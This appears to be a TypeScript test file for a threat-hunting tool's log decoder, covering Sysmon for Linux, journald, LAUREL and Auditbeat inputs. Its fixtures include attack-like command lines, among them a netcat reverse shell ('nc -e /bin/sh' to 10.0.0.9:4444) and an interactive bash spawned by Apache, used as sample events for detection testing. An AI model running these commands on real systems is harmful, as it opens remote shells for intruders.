/**
 * `serve` reads the Linux sources that `hunt` reads, as its listeners receive them: the record
 * decoder (one per detect worker) turns a Sysmon for Linux event in a syslog message, a journald
 * entry (`journalctl -o json`) and LAUREL and Auditbeat documents sent to the bulk API into the
 * events the file readers give, and reports a Sysmon event cut off by a syslog size limit instead
 * of reading half of it. (test/serve/linux.test.ts runs sshd lines and raw audit records through a
 * whole server.)
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RecordError } from '../../src/core/errors.js';
import type { Event } from '../../src/events/event.js';
import { RecordDecoder, type Decoded } from '../../src/serve/decode.js';
import type { IngestProtocol, IngestRecord } from '../../src/serve/record.js';
import { auditbeatNc, laurelCurl } from '../readers/shipper-docs.js';

/** A Sysmon for Linux event as SysmonForLinux's outputxml.cpp writes it (one line, no namespace). */
function sysmonXml(id: number, data: Record<string, string>, host: string): string {
  const items = Object.entries(data)
    .map(([k, v]) => `<Data Name="${k}">${v}</Data>`)
    .join('');
  return (
    `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version>` +
    `<Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-03-01T10:00:00.123456000Z"/>` +
    `<EventRecordID>77</EventRecordID><Correlation/><Execution ProcessID="900" ThreadID="900"/><Channel>Linux-Sysmon/Operational</Channel>` +
    `<Computer>${host}</Computer><Security UserId="0"/></System><EventData>${items}</EventData></Event>`
  );
}

let offset = 0;
function decode(d: RecordDecoder, protocol: IngestProtocol, body: string | object): Decoded[] {
  const r: IngestRecord = {
    source: `linux-${protocol}`,
    protocol,
    receivedAt: Date.parse('2024-03-01T10:05:00Z'),
    kind: typeof body === 'string' ? 'text' : 'json',
    body: typeof body === 'string' ? body : JSON.stringify(body),
  };
  return d.decode(offset++, r);
}
const events = (out: Decoded[]): Event[] => {
  assert.deepEqual(
    out.filter((x) => x instanceof RecordError).map((e) => e.code),
    [],
  );
  return out as Event[];
};

describe('serve: the record decoder reads Sysmon for Linux, journald, LAUREL and Auditbeat', () => {
  it('Sysmon for Linux in a syslog message: routed by EventID with Sysmon field names; a cut event is reported', () => {
    const d = new RecordDecoder();
    const proc = sysmonXml(1, { Image: '/usr/bin/bash', CommandLine: 'bash -i', ParentImage: '/usr/sbin/apache2', User: 'www-data' }, 'web1');
    const [p, ...rest] = events(decode(d, 'syslog', `<14>Mar  1 10:00:00 web1 sysmon[900]: ${proc}`));
    assert.equal(rest.length, 0);
    assert.deepEqual(
      [p!.channel, p!.eventId, p!.computer, p!.fields.Image, p!.fields.CommandLine, p!.fields.ParentImage, p!.fields.User],
      ['Linux-Sysmon/Operational', 1, 'web1', '/usr/bin/bash', 'bash -i', '/usr/sbin/apache2', 'www-data'],
    );
    const [n] = events(decode(d, 'syslog', `<14>Mar  1 10:00:01 web1 sysmon[900]: ${sysmonXml(3, { Image: '/usr/bin/curl', DestinationIp: '10.0.0.9', DestinationPort: '4444' }, 'web1')}`));
    assert.deepEqual([n!.eventId, n!.fields.DestinationIp], [3, '10.0.0.9']);
    const cut = decode(d, 'syslog', `<14>Mar  1 10:00:02 web1 sysmon[900]: ${proc.slice(0, proc.length - 30)}`);
    assert.deepEqual(
      cut.map((x) => (x instanceof RecordError ? x.code : 'event')),
      ['sysmon-truncated'],
    );
  });

  it('journald entries (journalctl -o json) through the bulk API: Sysmon for Linux and sshd', () => {
    const d = new RecordDecoder();
    const base = { __REALTIME_TIMESTAMP: '1709287200123456', _HOSTNAME: 'web2', _PID: '900', PRIORITY: '6', SYSLOG_FACILITY: '1' };
    const [f] = events(decode(d, 'elastic', { ...base, SYSLOG_IDENTIFIER: 'sysmon', MESSAGE: sysmonXml(11, { Image: '/usr/bin/wget', TargetFilename: '/tmp/x.sh', User: 'root' }, 'web2') }));
    assert.deepEqual([f!.channel, f!.eventId, f!.computer, f!.fields.TargetFilename], ['Linux-Sysmon/Operational', 11, 'web2', '/tmp/x.sh']);
    const [s] = events(decode(d, 'elastic', { ...base, SYSLOG_IDENTIFIER: 'sshd', MESSAGE: 'Accepted password for root from 192.0.2.7 port 1234 ssh2' }));
    assert.deepEqual(
      [s!.channel, s!.computer, s!.fields.AuthResult, s!.fields.TargetUserName, s!.fields.IpAddress, s!.fields['@timestamp']],
      ['linux/sshd', 'web2', 'success', 'root', '192.0.2.7', '2024-03-01T10:00:00.123Z'],
    );
  });

  it('LAUREL and Auditbeat documents through the bulk API: the records and the derived process start', () => {
    const d = new RecordDecoder();
    const laurel = events(decode(d, 'elastic', laurelCurl()));
    assert.deepEqual(
      laurel.map((e) => e.fields.type ?? e.channel),
      ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'linux/auditd/process_creation'],
    );
    const lp = laurel.at(-1)!;
    assert.deepEqual([lp.fields.Image, lp.fields.CommandLine, lp.fields.CurrentDirectory, lp.fields.Derived], ['/usr/bin/curl', 'curl -o /tmp/a b', '/root', 'auditd']);

    const beat = events(decode(d, 'elastic', auditbeatNc()));
    const bp = beat.find((e) => e.channel === 'linux/auditd/process_creation')!;
    assert.deepEqual([bp.computer, bp.fields.Image, bp.fields.CommandLine, bp.fields.CurrentDirectory, bp.fields.ProcessId], ['app1', '/usr/bin/nc', 'nc -e /bin/sh 10.0.0.9 4444', '/tmp', '77']);
    assert.deepEqual(d.flush(), []);
  });
});
